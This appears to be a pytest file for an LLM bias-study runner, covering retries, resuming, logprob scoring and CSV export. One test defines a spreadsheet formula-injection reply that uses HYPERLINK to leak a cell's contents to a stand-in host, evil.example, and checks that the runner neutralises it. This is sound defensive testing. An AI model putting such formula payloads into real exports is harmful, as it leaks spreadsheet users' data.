"""The LLM runner against the local OpenAI-compatible test server: retries, unparseable replies, resuming, logprobs."""

from __future__ import annotations

import csv
import datetime
import json
import math
import re

import pytest

from backend.bias import report as bias_report
from backend.bias.export import EXPORT_COLUMNS, IDENTIFIER_COLUMNS
from backend.bias.items import DEFAULT_ITEMS_PATH
from backend.bias.runner import main, output_path, plan_jobs, run_tests
from backend.core.llm import LLMSettings
from backend.core.llm.fake_server import Reply
from harness.servers import run_async
from tests.support.bias_replies import CHOICE_REPLY, ITEMS, REFUSED, YES_NO_REPLY, good_reply, responder

PER_RUN = sum(len(item.versions) for item in ITEMS.items)  # 16 test versions


def settings_for(server, **changes) -> LLMSettings:
    values = dict(model="test-model", base_url=server.base_url, max_retries=2, backoff_s=0.01, timeout_s=10)
    values.update(changes)
    return LLMSettings(**values)


def read(path):
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_runner_retries_records_unparseable_and_writes_the_export_columns(llm_server, tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-not-a-real-key")
    llm_server.responder = responder
    llm_server.default_delay_s = 0.02
    llm_server.script(Reply(status=500))  # the first call fails once and is retried by the LLM layer
    summary = run_async(
        run_tests(ITEMS, settings_for(llm_server), out_dir=tmp_path, repeats=2, concurrency=4, parse_retries=2)
    )
    rows = read(summary.path)
    assert summary.path.read_text(encoding="utf-8").splitlines()[0] == ",".join(EXPORT_COLUMNS)
    assert len(rows) == 2 * PER_RUN and summary.complete
    # 32 versions + 2 extra calls for each of the 4 refused versions + 1 re-ask for each of 2 flaky ones + the 500
    assert len(llm_server.requests) == 2 * PER_RUN + 4 * 2 + 2 * 1 + 1
    assert 1 < llm_server.max_in_flight <= 4

    refused = [row for row in rows if row["item_id"] == "halo_cyclist_campaign"]
    assert len(refused) == 4
    for row in refused:
        # three readable calls (one more if it drew the scripted 500, whichever call reached the server first)
        assert (row["status"], row["answer"]) == ("unparseable", "") and row["attempts"] in ("3", "4")
        assert row["raw_reply"] == "I'd rather not say."
    flaky = [row for row in rows if row["item_id"] == "loss_trade_fair"]
    assert [row["status"] for row in flaky] == ["answered"] * 2 and {row["attempts"] for row in flaky} <= {"2", "3"}
    assert sum(int(row["attempts"]) for row in rows) == len(llm_server.requests)
    assert {row["answer"] for row in flaky} == {"0"}  # B = "No, decline"
    reprompted = [r for r in llm_server.requests if len(r["messages"]) == 4]
    assert all("I could not read your reply" in r["messages"][3]["content"] for r in reprompted)

    anchoring = next(row for row in rows if row["item_id"] == "anchoring_bakery" and row["version"] == "control")
    assert (anchoring["answer"], anchoring["answer_label"]) == ("250", "250 loaves")
    assert float(anchoring["confidence"]) == pytest.approx(0.5) and anchoring["confidence_source"] == "stated"
    assert json.loads(anchoring["option_probabilities"]) == pytest.approx([0.2, 0.5, 0.2, 0.1])
    arguments = next(
        row for row in rows if row["item_id"] == "confirmation_home_office" and row["version"] != "control"
    )
    shown = json.loads(arguments["arguments_shown"])
    assert json.loads(arguments["arguments_selected"]) == [shown[0], shown[2], shown[3]]
    assert int(arguments["pro_selected"]) + int(arguments["con_selected"]) == 3
    assert {row["respondent_id"] for row in rows} == {"test-model#1", "test-model#2"}


def test_runner_resumes_where_it_stopped_and_asks_failed_calls_again(llm_server, tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-not-a-real-key")
    llm_server.responder = lambda request: good_reply(request["messages"][1]["content"])
    llm_server.script(Reply(status=400))  # a final error: recorded, not retried within the run
    settings = settings_for(llm_server)
    first = run_async(run_tests(ITEMS, settings, out_dir=tmp_path, concurrency=1))
    assert first.counts == {"answered": PER_RUN - 1, "error": 1} and not first.complete
    failed = next(row for row in read(first.path) if row["status"] == "error")
    assert failed["raw_reply"].startswith("http_error") and failed["answer"] == ""

    # A crash after some answers: the last five rows never reached the file.
    lines = first.path.read_text(encoding="utf-8").splitlines(keepends=True)
    first.path.write_text("".join(lines[:-5]), encoding="utf-8")
    kept = [row for row in read(first.path) if row["status"] == "answered"]
    llm_server.clear()
    second = run_async(run_tests(ITEMS, settings, out_dir=tmp_path, concurrency=3))
    assert second.kept == len(kept) and len(llm_server.requests) == PER_RUN - len(kept)
    rows = read(second.path)
    keys = [(row["run"], row["item_id"], row["version"]) for row in rows]
    assert len(keys) == len(set(keys)) == PER_RUN and {row["status"] for row in rows} == {"answered"}
    llm_server.clear()
    third = run_async(run_tests(ITEMS, settings, out_dir=tmp_path))
    assert third.counts == {} and llm_server.requests == []


def test_runner_takes_option_probabilities_from_logprobs(llm_server, tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-not-a-real-key")

    def with_logprobs(request):
        prompt = request["messages"][1]["content"]
        text = good_reply(prompt)
        if "selected" in text:
            return text
        letters = ["A", "B", "C", "D"] if "\nD. " in prompt else ["A", "B"]
        top = [
            {"token": letter, "logprob": math.log(p)} for letter, p in zip(letters, (0.1, 0.6, 0.2, 0.1), strict=False)
        ]
        content = [
            {"token": '{"answer": "', "logprob": 0.0, "top_logprobs": []},
            {"token": "B", "logprob": math.log(0.6), "top_logprobs": top},
        ]
        return Reply(text=text, logprobs={"content": content})

    llm_server.responder = with_logprobs
    summary = run_async(run_tests(ITEMS, settings_for(llm_server), out_dir=tmp_path, use_logprobs=True))
    rows = read(summary.path)
    assert all(request.get("logprobs") is True and request.get("top_logprobs") == 5 for request in llm_server.requests)
    halo = next(row for row in rows if row["item_id"] == "halo_linen_supplier" and row["version"] == "control")
    assert halo["confidence_source"] == "logprobs"
    assert json.loads(halo["option_probabilities"]) == pytest.approx([0.1, 0.6, 0.2, 0.1])
    loss = next(row for row in rows if row["item_id"] == "loss_pilot_route")
    assert json.loads(loss["option_probabilities"]) == pytest.approx([0.1 / 0.7, 0.6 / 0.7])


def test_command_line_scripted_run_and_its_errors(tmp_path, capsys):
    assert main(["--model", "scripted", "--repeats", "2", "--concurrency", "3", "--out", str(tmp_path)]) == 0
    path = output_path(tmp_path, "scripted", ITEMS)
    rows = read(path)
    assert len(rows) == 2 * PER_RUN and {row["status"] for row in rows} == {"answered"}
    assert {row["model"] for row in rows} == {"scripted"}
    assert "planned" in capsys.readouterr().out
    # the same plan twice: the order is seeded per run
    assert [job.key for job in plan_jobs(ITEMS, model="m", repeats=2, seed=1)] == [
        job.key for job in plan_jobs(ITEMS, model="m", repeats=2, seed=1)
    ]
    for bad in (["--repeats", "0"], ["--concurrency", "0"], ["--items", str(tmp_path / "missing.json")]):
        with pytest.raises(SystemExit) as raised:
            main(["--model", "scripted", "--out", str(tmp_path), "--quiet", *bad])
        assert raised.value.code == 2
    foreign = tmp_path / "foreign"
    foreign.mkdir()
    output_path(foreign, "scripted", ITEMS).write_text("a,b\n1,2\n", encoding="utf-8")
    with pytest.raises(SystemExit):
        main(["--model", "scripted", "--out", str(foreign), "--quiet"])
    assert "does not have the columns of the bias export" in capsys.readouterr().err


# --- the item file and the output file as a researcher meets them ------------------------------------------------
def test_the_runner_refuses_the_item_files_the_app_refuses_and_accepts_a_windows_bom(tmp_path, capsys):
    data = json.loads(DEFAULT_ITEMS_PATH.read_text(encoding="utf-8"))
    data["items"][0].update(options=[150, 250.5, 350], option_format="{value:d} loaves")
    broken = tmp_path / "broken.json"
    broken.write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(SystemExit) as raised:
        main(["--model", "scripted", "--items", str(broken), "--out", str(tmp_path), "--quiet"])
    assert raised.value.code == 2
    assert (
        "broken.json: items[0] (anchoring_bakery).option_format: '{value:d} loaves' cannot show the option 250.5"
    ) in capsys.readouterr().err
    assert not list(tmp_path.glob("*.csv"))  # refused before a single call or row

    bom = tmp_path / "bom.json"
    bom.write_bytes(b"\xef\xbb\xbf" + DEFAULT_ITEMS_PATH.read_bytes())
    assert main(["--model", "scripted", "--items", str(bom), "--out", str(tmp_path), "--quiet"]) == 0
    assert len(read(output_path(tmp_path, "scripted", ITEMS))) == PER_RUN


FORMULA_REPLY = '=HYPERLINK("http://evil.example/?leak="&A1,"click") ' + YES_NO_REPLY


def test_a_reply_starting_with_a_formula_is_neutralised_in_the_file_and_read_back_exactly(
    llm_server, tmp_path, monkeypatch
):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-not-a-real-key")
    loss = ITEMS.item("loss_pilot_route").scenario

    def formula_for_one_item(request):
        prompt = request["messages"][1]["content"]
        return FORMULA_REPLY if loss in prompt else good_reply(prompt)

    llm_server.responder = formula_for_one_item
    settings = settings_for(llm_server)
    first = run_async(run_tests(ITEMS, settings, out_dir=tmp_path))
    assert first.complete

    def cell():
        return next(row for row in read(first.path) if row["item_id"] == "loss_pilot_route")["raw_reply"]

    assert cell() == "'" + FORMULA_REPLY  # a spreadsheet shows it as text and runs nothing
    # Twice more: resuming reads the kept rows back and writes them again, which must not add a second quote.
    for _ in range(2):
        assert run_async(run_tests(ITEMS, settings, out_dir=tmp_path)).kept == PER_RUN
    assert cell() == "'" + FORMULA_REPLY

    rows = bias_report.read_rows([first.path])
    reply = rows.loc[rows["item_id"] == "loss_pilot_route", "raw_reply"].tolist()
    assert reply == [FORMULA_REPLY]
    assert bias_report.summarise(rows)["metrics"]["loss_aversion"]["test-model [stated]"]["tests"] == 3


def test_runner_rows_carry_the_answer_time_and_empty_participant_identifiers(tmp_path):
    started = datetime.datetime.now(datetime.UTC)
    assert main(["--model", "scripted", "--out", str(tmp_path), "--quiet"]) == 0
    rows = read(output_path(tmp_path, "scripted", ITEMS))
    for row in rows:
        assert (row["participant_code"], row["prolific_pid"], row["study_id"], row["session_code"]) == ("", "", "", "")
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", row["answered_at"]), row["answered_at"]
        answered = datetime.datetime.fromisoformat(row["answered_at"].replace("Z", "+00:00"))
        assert started - datetime.timedelta(seconds=1) <= answered <= datetime.datetime.now(datetime.UTC)


def test_a_file_from_before_the_identifier_columns_is_resumed_and_rewritten_with_them(tmp_path):
    assert main(["--model", "scripted", "--out", str(tmp_path), "--quiet"]) == 0
    path = output_path(tmp_path, "scripted", ITEMS)
    rows = read(path)
    old_columns = [column for column in EXPORT_COLUMNS if column not in IDENTIFIER_COLUMNS]
    with path.open("w", encoding="utf-8", newline="") as handle:  # as the runner wrote it before, minus 3 answers
        writer = csv.DictWriter(handle, fieldnames=old_columns, extrasaction="ignore")
        writer.writeheader()
        writer.writerows(rows[:-3])
    assert len(bias_report.read_rows([path])) == PER_RUN - 3  # the report reads the old file as it is

    assert main(["--model", "scripted", "--out", str(tmp_path), "--quiet"]) == 0
    assert path.read_text(encoding="utf-8").splitlines()[0] == ",".join(EXPORT_COLUMNS)
    resumed = read(path)
    assert len(resumed) == PER_RUN
    kept = {(row["item_id"], row["version"]): row for row in resumed[: PER_RUN - 3]}
    for row in rows[:-3]:
        assert {key: kept[(row["item_id"], row["version"])][key] for key in old_columns} == {
            key: row[key] for key in old_columns
        }
    assert [row["answered_at"] for row in resumed[: PER_RUN - 3]] == [""] * (PER_RUN - 3)
    assert all(row["answered_at"] for row in resumed[PER_RUN - 3 :])


# --- answer modes --------------------------------------------------------------------------------------------------
def letter_logprobs(weights: dict[str, float], first: str = "") -> dict:
    """A ``choices[0].logprobs`` object whose answer token has these alternatives (after an optional first token)."""
    alternatives = [{"token": token, "logprob": math.log(p)} for token, p in weights.items()]
    best = max(weights, key=weights.get)
    content = [{"token": best, "logprob": math.log(weights[best]), "top_logprobs": alternatives}]
    if first:
        content.insert(0, {"token": first, "logprob": -0.1, "top_logprobs": [{"token": first, "logprob": -0.1}]})
    return {"content": content}


def letter_responder(request):
    prompt = request["messages"][1]["content"]
    assert prompt.endswith("Reply with the letter of your choice only.")
    assert request["logprobs"] is True and request["top_logprobs"] == 20 and request["max_tokens"] == 8
    if "Would you take argument" in prompt:
        number = int(re.search(r"Would you take argument (\d+)", prompt).group(1))
        p_yes = 0.8 if number in (2, 5) else 0.3
        return Reply(text="A" if p_yes > 0.5 else "B", logprobs=letter_logprobs({"A": p_yes, "B": 1 - p_yes}))
    if REFUSED in prompt:  # the letter never appears among the alternatives
        return Reply(text="The", logprobs=letter_logprobs({"The": 0.7, "I": 0.3}))
    if "\nD. " in prompt:
        return Reply(text=" C", logprobs=letter_logprobs({" C": 0.5, "B": 0.3, "(A": 0.1, "Hmm": 0.1}, first="\n"))
    return Reply(text="B", logprobs=letter_logprobs({"A": 0.25, "B": 0.75}))


def test_logprob_mode_scores_the_option_letters_and_says_why_when_it_cannot(llm_server, tmp_path):
    llm_server.responder = letter_responder
    summary = run_async(run_tests(ITEMS, settings_for(llm_server), out_dir=tmp_path, answer_mode="logprobs"))
    rows = {(row["item_id"], row["version"]): row for row in read(summary.path)}
    bakery = rows["anchoring_bakery", "control"]
    assert (bakery["status"], bakery["answer"], bakery["answer_source"]) == ("answered", "350", "letter_logprob")
    assert json.loads(bakery["option_probabilities"]) == pytest.approx([1 / 9, 3 / 9, 5 / 9, 0])
    assert bakery["confidence"] == str(5 / 9) and bakery["confidence_source"] == "logprobs"
    assert bakery["answer_mode"] == "logprobs"
    accept = rows["loss_trade_fair", "treatment"]
    assert (accept["answer"], float(accept["confidence"])) == ("0", pytest.approx(0.75))  # B = No, decline
    argument_rows = [row for row in rows.values() if row["arguments_shown"] and row["status"] == "answered"]
    assert len(argument_rows) == 2
    for row in argument_rows:  # one yes/no letter per argument; arguments 2 and 5 (as shown) are taken
        shown = json.loads(row["arguments_shown"])
        assert json.loads(row["arguments_selected"]) == [shown[1], shown[4]]
        assert row["answer_source"] == "letter_logprob_per_argument" and row["attempts"] == "8"
    refused = rows["halo_cyclist_campaign", "control"]
    assert refused["status"] == "unparseable" and "no option letter" in refused["problem"]
    assert "'The'" in refused["problem"]
    assert summary.counts == {"answered": PER_RUN - 2, "unparseable": 2}


def test_logprob_mode_without_logprobs_from_the_endpoint_is_unparseable_with_the_reason(llm_server, tmp_path):
    llm_server.responder = lambda request: "B"
    summary = run_async(run_tests(ITEMS, settings_for(llm_server), out_dir=tmp_path, answer_mode="logprobs"))
    rows = read(summary.path)
    assert {row["status"] for row in rows} == {"unparseable"}
    assert {row["problem"] for row in rows} == {"the endpoint returned no log-probabilities"}


def test_structured_mode_sends_the_schema_and_falls_back_when_refused(llm_server, tmp_path):
    llm_server.responder = responder
    summary = run_async(
        run_tests(ITEMS, settings_for(llm_server), out_dir=tmp_path, answer_mode="structured", parse_retries=0)
    )
    first = llm_server.requests[0]["response_format"]["json_schema"]["schema"]
    assert first["required"] == ["answer", "probabilities"] or first["required"] == ["selected"]
    sources = {row["answer_source"] for row in read(summary.path) if row["status"] == "answered"}
    assert sources == {"structured"}

    llm_server.clear()
    llm_server.refuse_response_format = True
    refused_dir = tmp_path / "refused"
    summary = run_async(
        run_tests(ITEMS, settings_for(llm_server), out_dir=refused_dir, answer_mode="structured", parse_retries=0)
    )
    rows = read(summary.path)
    assert {row["answer_source"] for row in rows if row["status"] == "answered"} == {"json"}
    assert {row["answer_mode"] for row in rows} == {"structured"}


def test_reasoning_is_exported_apart_and_never_read_as_the_answer(llm_server, tmp_path):
    def thinking(request):
        prompt = request["messages"][1]["content"]
        reply = good_reply(prompt)
        if len(request["messages"]) > 2 or "\nD. " not in prompt:
            return reply
        # the thinking names option A in the very form the parser reads; the answer after it is B
        return Reply(text='<think>Answer: A. {"answer": "A"}</think>' + reply, reasoning="Weighing the street.")

    llm_server.responder = thinking
    summary = run_async(run_tests(ITEMS, settings_for(llm_server), out_dir=tmp_path))
    bakery = next(row for row in read(summary.path) if row["item_id"] == "anchoring_bakery")
    assert bakery["answer"] == "250" and bakery["raw_reply"] == CHOICE_REPLY
    assert bakery["reasoning"] == 'Weighing the street.\\n\\nAnswer: A. {"answer": "A"}'
    assert all(request["max_tokens"] == 216 for request in llm_server.requests)


def test_a_thinking_model_whose_reply_is_only_thinking_is_an_error_not_an_answer(llm_server, tmp_path):
    llm_server.responder = lambda request: Reply(text="<think>Answer: B, surely")
    summary = run_async(run_tests(ITEMS, settings_for(llm_server, max_retries=0), out_dir=tmp_path))
    rows = read(summary.path)
    assert {row["status"] for row in rows} == {"error"} and all("empty_reply" in row["problem"] for row in rows)


def test_a_clear_answer_with_unusable_probabilities_is_kept_without_a_confidence(llm_server, tmp_path):
    # SmolLM2 under a schema: a valid letter, "probabilities" that are ranks (1, 2, 3, 4)
    def ranks(request):
        prompt = request["messages"][1]["content"]
        if "\nD. " in prompt:
            return '{"answer": "C", "probabilities": {"A": 1, "B": 2, "C": 3, "D": 4}}'
        return good_reply(prompt)

    llm_server.responder = ranks
    summary = run_async(run_tests(ITEMS, settings_for(llm_server), out_dir=tmp_path, parse_retries=1))
    bakery = next(row for row in read(summary.path) if row["item_id"] == "anchoring_bakery")
    assert (bakery["status"], bakery["answer"], bakery["confidence"]) == ("answered", "350", "")
    assert bakery["problem"].startswith("no confidence: the probabilities add up to 10 % (read as percentages")
    assert bakery["attempts"] == "2"


def test_logprob_mode_without_a_written_letter_scores_the_alternatives_and_says_so(llm_server, tmp_path):
    # SmolLM2 on the attention check: "I'm not sure…", with the option letters among the first token's alternatives
    def unsure(request):
        weights = {"I": 0.6, "A": 0.1, "B": 0.2, "The": 0.1}
        alternatives = [{"token": token, "logprob": math.log(p)} for token, p in weights.items()]
        content = [{"token": "I", "logprob": math.log(0.6), "top_logprobs": alternatives}]
        return Reply(text="I'm not sure", logprobs={"content": content})

    llm_server.responder = unsure
    summary = run_async(run_tests(ITEMS, settings_for(llm_server), out_dir=tmp_path, answer_mode="logprobs"))
    bakery = next(row for row in read(summary.path) if row["item_id"] == "anchoring_bakery")
    assert (bakery["status"], bakery["answer"], bakery["answer_source"]) == (
        "answered",
        "250",
        "letter_logprob_alternatives",
    )
    assert json.loads(bakery["option_probabilities"]) == pytest.approx([1 / 3, 2 / 3, 0, 0])
    assert bakery["problem"] == "the model wrote 'I'; the option letters held 30.0% of that token's probability"
